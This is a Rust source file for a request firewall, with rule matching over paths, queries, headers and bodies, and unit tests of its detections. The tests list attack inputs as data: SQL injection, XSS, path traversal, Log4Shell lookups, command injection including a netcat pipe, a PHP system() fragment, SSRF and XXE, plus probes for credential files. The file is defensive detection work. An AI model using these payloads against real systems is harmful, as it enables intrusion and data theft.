//! A firewall for requests: a small set of rules, each documented in docs/gateway.md. It is not the OWASP Core Rule Set
//! and does not claim to be; what it looks for by grammar (SQL, HTML) it leaves to a port of libinjection.

#[cfg(test)]
mod corpus;
mod decode;
mod places;
mod rules;

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::LazyLock;
use std::sync::atomic::{AtomicU64, Ordering};

use http::header::{COOKIE, HeaderMap, HeaderName, REFERER, USER_AGENT};
use regex::bytes::{Regex, RegexBuilder};

use crate::clock;
use crate::config::Waf;
use rules::{From, Look, ODD_BODY, RULES};

/// Lines a second that the log takes of matches; the counts are exact all the same.
const LINES: u64 = 20;

/// How often each rule matched.
pub(crate) struct Matches([AtomicU64; RULES.len()], AtomicU64, AtomicU64);

impl Default for Matches {
    fn default() -> Self {
        Self(std::array::from_fn(|_| AtomicU64::new(0)), AtomicU64::new(0), AtomicU64::new(0))
    }
}

impl Matches {
    /// Rules with their names and counts.
    pub(crate) fn all(&self) -> impl Iterator<Item = (u16, &'static str, u64)> {
        RULES
            .iter()
            .zip(&self.0)
            .map(|(rule, count)| (rule.id, rule.name, count.load(Ordering::Relaxed)))
    }

    /// Counts a match; whether the log may take a line of it, in which nothing of what matched stands.
    pub(crate) fn count(&self, found: Match) -> bool {
        self.0[found.index].fetch_add(1, Ordering::Relaxed);
        let second = clock::millis() / 1000;
        if self.1.swap(second, Ordering::Relaxed) != second {
            self.2.store(0, Ordering::Relaxed);
        }
        self.2.fetch_add(1, Ordering::Relaxed) < LINES
    }
}

/// A rule that matched.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Match {
    pub(crate) id: u16,
    pub(crate) name: &'static str,
    index: usize,
}

/// Whether the ids of a file are of rules.
pub(crate) fn is_rule(id: u16) -> bool {
    RULES.iter().any(|rule| rule.id == id)
}

/// Looks at everything but the body. `path` is decoded, `raw` as it came; `headers` are those passed on and those taken
/// away.
pub(crate) fn look_at_head(
    waf: &Waf,
    [path, raw]: [&str; 2],
    query: Option<&str>,
    headers: [&HeaderMap; 2],
) -> Option<Match> {
    let mut look = |from: From, text: &[u8]| look(waf, from, text);
    look(From::Path, path.as_bytes())
        .or_else(|| (raw != path).then(|| look(From::Path, raw.as_bytes())).flatten())
        // A server may take any part of a path for a value.
        .or_else(|| {
            let parts = raw.split(['/', ';', '=']).filter(|part| part.len() > 2);
            parts.take(64).find_map(|part| look(From::Path, part.as_bytes()))
        })
        .or_else(|| places::pairs(query.unwrap_or_default().as_bytes(), From::Query, &mut look))
        .or_else(|| {
            let mut fields = headers.iter().flat_map(|headers| headers.iter());
            fields.find_map(|(name, value)| header(name, value.as_bytes(), &mut look))
        })
}

/// Looks at one field.
fn header(
    name: &HeaderName,
    value: &[u8],
    look: &mut impl FnMut(From, &[u8]) -> Option<Match>,
) -> Option<Match> {
    if name == USER_AGENT {
        return look(From::Agent, value).or_else(|| {
            // Without these it is the list of products that it should be.
            let odd = value.iter().any(|byte| matches!(byte, b'\'' | b'"' | b'<' | b'`' | b'$'));
            odd.then(|| look(From::Header, value)).flatten()
        });
    }
    if name == COOKIE {
        // Cookies are looked at one by one: names, values, and both.
        let mut cookies = value.split(|byte| *byte == b';');
        return cookies.find_map(|cookie| {
            let cookie = cookie.trim_ascii();
            let at = memchr::memchr(b'=', cookie).map_or(0, |at| at + 1);
            look(From::Header, &cookie[at..]).or_else(|| look(From::Header, cookie))
        });
    }
    if name == REFERER {
        // An address: its query is taken apart like that of a request.
        let (address, query) = match memchr::memchr(b'?', value) {
            Some(at) => (&value[..at], &value[at + 1..]),
            None => (value, &b""[..]),
        };
        return look(From::Header, address).or_else(|| places::pairs(query, From::Header, look));
    }
    if is_of_fixed_form(name.as_str(), value) {
        return None;
    }
    look(From::Header, value)
}

/// Fields whose own grammar has what looks like SQL, as long as they keep to it.
fn is_of_fixed_form(name: &str, value: &[u8]) -> bool {
    let letters: &[u8] = match name {
        "accept"
        | "accept-language"
        | "accept-encoding"
        | "accept-charset"
        | "te"
        | "priority"
        | "cache-control"
        | "pragma"
        | "connection"
        | "date"
        | "if-modified-since"
        | "if-unmodified-since"
        | "range"
        | "content-length"
        | "host"
        | "origin"
        | "dnt"
        | "age"
        | "upgrade"
        | "expect"
        | "upgrade-insecure-requests" => b" ,;=*/.-+:?_()[]",
        "if-match" | "if-none-match" | "if-range" => b" ,\"/-_:.+=*",
        "authorization" | "proxy-authorization" => b" .-_~+/=,\":",
        "content-type" => b" ;=/.-+_\"'()?:,",
        name if name.starts_with("sec-") => b" ,;=\"?./-_:()+)",
        _ => return false,
    };
    value.iter().all(|byte| byte.is_ascii_alphanumeric() || letters.contains(byte))
}

/// Whether a body is looked at.
pub(crate) fn reads(waf: &Waf, headers: &HeaderMap) -> bool {
    places::reads(headers, waf.body)
}

/// Looks at a body, or at its beginning.
pub(crate) fn look_at_body(waf: &Waf, headers: &HeaderMap, body: &[u8]) -> Option<Match> {
    if !body.is_empty() && places::is_odd(headers) {
        let odd = RULES.iter().position(|rule| rule.id == ODD_BODY);
        let odd = odd.filter(|index| applies(waf, &RULES[*index]));
        if let Some(index) = odd {
            return Some(Match { id: ODD_BODY, name: RULES[index].name, index });
        }
    }
    places::body(headers, body, waf.body, &mut |from: From, text: &[u8]| look(waf, from, text))
}

fn applies(waf: &Waf, rule: &rules::Rule) -> bool {
    rule.level <= waf.level && !waf.without_rules.contains(&rule.id)
}

fn look(waf: &Waf, from: From, text: &[u8]) -> Option<Match> {
    if text.len() < 3 && !text.contains(&0) {
        return None;
    }
    decode::readings(text).iter().find_map(|text| {
        let found = RULES.iter().enumerate().find(|(_, rule)| {
            applies(waf, rule) && rule.from.contains(&from) && matches(&rule.look, text)
        })?;
        Some(Match { id: found.1.id, name: found.1.name, index: found.0 })
    })
}

/// What a piece of SQL that does anything has beside its grammar: a comparison, a comment, a statement, a call.
static EVIDENCE: LazyLock<Regex> = LazyLock::new(|| {
    RegexBuilder::new(
        r"[=<>]|['\x22]\s*--|(?:[)\d]|\b(?:true|false|null))\s*--\s*(?:[-+]|\z)|/\*|\|\||&&|\b(?:select|union|insert|update|delete|drop|alter|exec|execute|declare|having|into|from|where|like|between|null|true|false|in|is|exists|procedure|waitfor|shutdown)\b|\(\s*['\x22\d@(]",
    )
    .case_insensitive(true)
    .build()
    .expect("a pattern of ours is sound")
});

fn matches(look: &Look, text: &[u8]) -> bool {
    // A parser of a stranger's text that breaks is taken for a match, not for the end of the worker.
    let safely = |parse: &dyn Fn() -> bool| catch_unwind(AssertUnwindSafe(parse)).unwrap_or(true);
    match look {
        Look::Pattern(pattern) => pattern().is_match(text),
        // By its grammar alone a password with `#` is SQL, and so is a sentence with "or" in quotes.
        Look::Sql => {
            EVIDENCE.is_match(text) && safely(&|| libinjectionrs::detect_sqli(text).is_injection())
        }
        Look::Html => safely(&|| libinjectionrs::detect_xss(text).is_injection()),
        Look::Shape => false,
    }
}

#[cfg(test)]
mod tests {
    use http::header::CONTENT_TYPE;

    use super::*;
    use crate::config::WafLevel;

    fn waf(level: WafLevel) -> Waf {
        Waf {
            block: true,
            level,
            body: 1 << 17,
            without_paths: Vec::new(),
            without_rules: Vec::new(),
            log: true,
        }
    }

    fn query(level: WafLevel, value: &str) -> Option<u16> {
        let encoded: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
        let query = format!("q={encoded}");
        look_at_head(&waf(level), ["/"; 2], Some(&query), [&HeaderMap::new(); 2])
            .map(|found| found.id)
    }

    #[test]
    fn attacks_are_found_by_the_rule_that_is_meant_for_them() {
        for (value, rule) in [
            ("1' OR '1'='1", 1001),
            ("1 UNION SELECT password FROM users--", 1001),
            ("1; DROP TABLE users", 1001),
            ("1 AND SLEEP(5)", 1001),
            ("admin'--", 1001),
            ("1%27%20OR%20%271%27%3D%271", 1001),
            ("<script>alert(1)</script>", 1002),
            ("\"><svg/onload=alert(1)>", 1002),
            ("<img src=x onerror=alert(1)>", 1002),
            ("../../../etc/passwd", 1003),
            ("..\\..\\windows\\win.ini", 1003),
            ("file=/etc/passwd", 1003),
            ("${jndi:ldap://x/a}", 1004),
            ("${${lower:j}ndi:ldap://x}", 1004),
            ("a\0b", 1007),
            ("x; cat /etc/motd", 1008),
            ("$(whoami)", 1008),
            ("a | nc 10.0.0.1 99", 1008),
            ("<?php system($_GET[1])", 1009),
            ("php://filter/convert", 1009),
            ("http://169.254.169.254/latest", 1012),
            ("{{7*7}}", 1013),
        ] {
            assert_eq!(query(WafLevel::Strict, value), Some(rule), "{value}");
        }
        for path in
            ["/.env", "/a/.git/config", "/.aws/credentials", "/wp-config.php~", "/.ENV.local"]
        {
            let found =
                look_at_head(&waf(WafLevel::Basic), [path; 2], None, [&HeaderMap::new(); 2]);
            assert!(found.is_some_and(|found| [1003, 1006].contains(&found.id)), "{path}");
        }
    }

    #[test]
    fn what_people_write_passes() {
        for value in [
            "quero marcar às 10h; pode ser?",
            "João & Maria - bar e grill",
            "Selecione uma opção, por favor",
            "preço: R$ 10,00 (ou 2x de R$ 5,00)",
            "it's a test -- really",
            "a/b/c/../d",
            "update: where is the union office?",
            "<3 adorei!",
            "1 < 2 e 3 > 2",
            "meu e-mail é ana+teste@exemplo.com.br",
            "cat, dog & bird; curl up",
            "olá {{nome}}",
            "50% off",
            "C:\\Users\\Ana",
            "https://loja.example/p?id=1&x=2",
        ] {
            assert_eq!(query(WafLevel::Standard, value), None, "{value}");
        }
        for path in ["/.well-known/acme-challenge/x", "/environment", "/a.env.b", "/gitlab/x"] {
            let found =
                look_at_head(&waf(WafLevel::Strict), [path; 2], None, [&HeaderMap::new(); 2]);
            assert_eq!(found, None, "{path}");
        }
    }

    #[test]
    fn bodies_are_looked_at_by_their_kind() {
        let body = |kind: &str, body: &str| {
            let mut headers = HeaderMap::new();
            headers.insert(CONTENT_TYPE, kind.parse().expect("kind"));
            look_at_body(&waf(WafLevel::Standard), &headers, body.as_bytes()).map(|found| found.id)
        };
        let sql = "1' OR '1'='1";
        let form = "application/x-www-form-urlencoded";
        assert_eq!(body(form, "a=b&c=1%27+OR+%271%27%3D%271"), Some(1001));
        assert_eq!(
            body("application/json", &format!("{{\"a\": [1, {{\"b\": \"{sql}\"}}]}}")),
            Some(1001)
        );
        assert_eq!(body("application/json; charset=utf-8", "{\"a\": \"bom dia\"}"), None);
        let multipart = |disposition: &str, text: &str| {
            format!(
                "--X\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{text}\r\n--X--\r\n"
            )
        };
        let kind = "multipart/form-data; boundary=X";
        assert_eq!(body(kind, &multipart("name=a", sql)), Some(1001));
        assert_eq!(body(kind, &multipart("name=a; filename=\"x.txt\"", sql)), None);
        assert_eq!(
            body(kind, &multipart("name=a; filename=\"../../etc/passwd\"", "x")),
            Some(1027)
        );
        // What only looks like a file is a field.
        assert_eq!(body("multipart/form-data; Boundary=X", &multipart("name=a", sql)), Some(1001));
        assert_eq!(body(kind, &multipart("name=\"filename\"", sql)), Some(1001));
        assert_eq!(body(kind, &multipart("name=a\r\nX-filename: 1", sql)), Some(1001));
        assert_eq!(body("multipart/form-data", sql), Some(1001));
        assert_eq!(body("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]>"), Some(1010));
        // What is said to be a picture and is a text is looked at as one; nothing is, and two kinds are not.
        assert_eq!(body("image/png", sql), Some(1001));
        assert_eq!(body("image/png", "\u{1}\u{0}PNG 1' OR '1'='1"), None);
        assert_eq!(body("", sql), Some(1001));
        assert_eq!(body("x/y", &format!("{{\"a\":\"{sql}\"}}")), Some(1001));
        assert_eq!(body("application/json; charset=ibm037", "{}"), Some(1024));
    }
}
